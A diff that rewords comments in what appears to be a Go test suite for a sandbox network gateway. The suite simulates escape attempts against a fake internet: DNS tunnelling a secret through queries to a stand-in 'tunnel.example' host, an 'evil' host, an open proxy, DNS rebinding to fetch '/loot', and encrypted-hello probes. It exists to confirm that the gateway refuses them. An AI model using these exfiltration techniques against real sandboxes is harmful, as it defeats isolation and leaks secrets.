@@ -19,13 +19,12 @@ import (
 	"gvisor.dev/gvisor/pkg/tcpip/header"
 )
 
-// An attack is a way for code in a sandbox to reach something that it was not
-// given. try returns nil when the attack worked. Each one is shown to work from
-// an open sandbox, so that the refusals mean something, and to fail from a
-// restricted one and from one that is off.
+// An attack is a way for code in a sandbox to reach a forbidden destination. try returns nil when
+// the attack worked. Each attack must work from an open sandbox, so that its refusal means
+// something, and fail in modes restricted and off.
 type attack struct {
 	name string
-	// allow is what the operator must lift for the attack to work at all.
+	// allow lists the networks that the operator must allow for the attack to work at all.
 	allow []string
 	try   func(l *lab) error
 }
@@ -61,9 +60,8 @@ const (
 	evilAddr = "6.6.6.6"
 )
 
-// newBattlefield is a lab whose internet has a good host, an evil one at its
-// own address and at the good one's, and services that listen where a sandbox
-// must not look.
+// newBattlefield is a lab whose internet has a good host, an evil host at its own address and at
+// the good host's, and services at addresses that a sandbox must not reach.
 func newBattlefield(t testing.TB, allow ...string) *lab {
 	l := newLab(t, func(o *Options) { o.Allow = prefixes(allow...) })
 	ca := newAuthority(t)
@@ -95,7 +93,7 @@ func newBattlefield(t testing.TB, allow ...string) *lab {
 	return l
 }
 
-// sayHostOrTunnel is a web server that is also a proxy for everybody.
+// sayHostOrTunnel is a web server that is also an open proxy.
 func sayHostOrTunnel(w http.ResponseWriter, r *http.Request) {
 	if r.Method == http.MethodConnect {
 		w.WriteHeader(http.StatusOK)
@@ -128,7 +126,7 @@ var attacks = []attack{
 		l.query("udp", secret+".tunnel.example", dns.TypeA)
 		_, _ = l.queryAt("tcp", "10.0.0.1:53", secret+".tunnel.example", dns.TypeA)
 		if _, asked := l.net.seen(); len(asked) == 0 {
-			return errors.New("no query left")
+			return errors.New("no query left the host")
 		}
 		return nil
 	}},
@@ -196,7 +194,7 @@ func (l *lab) tryTLS(addr, sni string) error {
 	return pingTLS(c, sni)
 }
 
-// tryNamed looks a name up and speaks TLS there under another.
+// tryNamed looks a name up and connects to its address over TLS with another server name.
 func (l *lab) tryNamed(name string, port int, sni string) error {
 	c, err := l.dialName(name, port)
 	if err != nil {
@@ -248,7 +246,7 @@ func (l *lab) tryHTTPAt(addr, send, loot string) error {
 	return expect(c, send, loot)
 }
 
-// expect sends bytes and reads until what it wants arrives.
+// expect sends bytes and reads until want arrives.
 func expect(c net.Conn, send, want string) error {
 	_ = c.SetDeadline(time.Now().Add(hangs))
 	if _, err := io.WriteString(c, send); err != nil {
@@ -267,7 +265,7 @@ func expect(c net.Conn, send, want string) error {
 	}
 }
 
-// What no policy allows: these fail from open too.
+// No policy allows these destinations, so they fail in mode open too.
 func TestForbiddenDestinationsFailInEveryMode(t *testing.T) {
 	everything := bothy.Network{Mode: bothy.NetworkRestricted, AllowDomains: []string{"*.example"}, AllowCIDRs: prefixes("0.0.0.0/0"), AllowPorts: []uint16{22, 80, 443, 7700}}
 	for _, n := range []bothy.Network{open, everything, off} {
@@ -321,7 +319,7 @@ func TestRebindingAfterTheLookupIsCaught(t *testing.T) {
 	clock.advance(2 * nameAge)
 	if c, err := l.dial(addr + ":80"); err == nil {
 		if err := expect(c, get("turn.example", "/loot"), "/loot"); err == nil {
-			t.Fatal("a name was rebound to the host")
+			t.Fatal("a name that was rebound to the host was reached")
 		}
 	}
 	if dialled, _ := l.net.seen(); len(dialled) != 1 {
@@ -347,7 +345,7 @@ func TestEncryptedClientHelloIsRefused(t *testing.T) {
 		t.Fatal(err)
 	}
 	if err := expect(c, string(withExtension(plain, 0xfafa, nil)), "\x16\x03"); err != nil {
-		t.Errorf("the same hello with an extension of no meaning: %v", err)
+		t.Errorf("the same hello with an unknown extension: %v", err)
 	}
 }
 
@@ -369,9 +367,8 @@ func withExtension(hello []byte, kind uint16, body []byte) []byte {
 	return h
 }
 
-// A raw socket: what follows is sent and read frame by frame.
-
-// tap takes over the guest's end of the network device.
+// newRawLab is a lab in which the test itself is the guest's end of the network device, and sends
+// and reads frames.
 func newRawLab(t *testing.T, n bothy.Network) (*memNetDevice, *Gateway) {
 	host, inside := newNetDevice(65000)
 	outside := newInternet(t)
@@ -386,8 +383,8 @@ func newRawLab(t *testing.T, n bothy.Network) (*memNetDevice, *Gateway) {
 	return inside, g
 }
 
-// answers sends frames and returns the kinds of what comes back, up to the echo
-// reply that follows each of them as a mark.
+// answers sends frames, each followed by an echo request, and returns the kinds of the frames that
+// come back before its reply.
 func answers(t *testing.T, c *memNetDevice, frames ...[]byte) (got []string) {
 	t.Helper()
 	for _, f := range append(frames, echoRequest("10.0.0.2", "10.0.0.1", guestMAC)) {
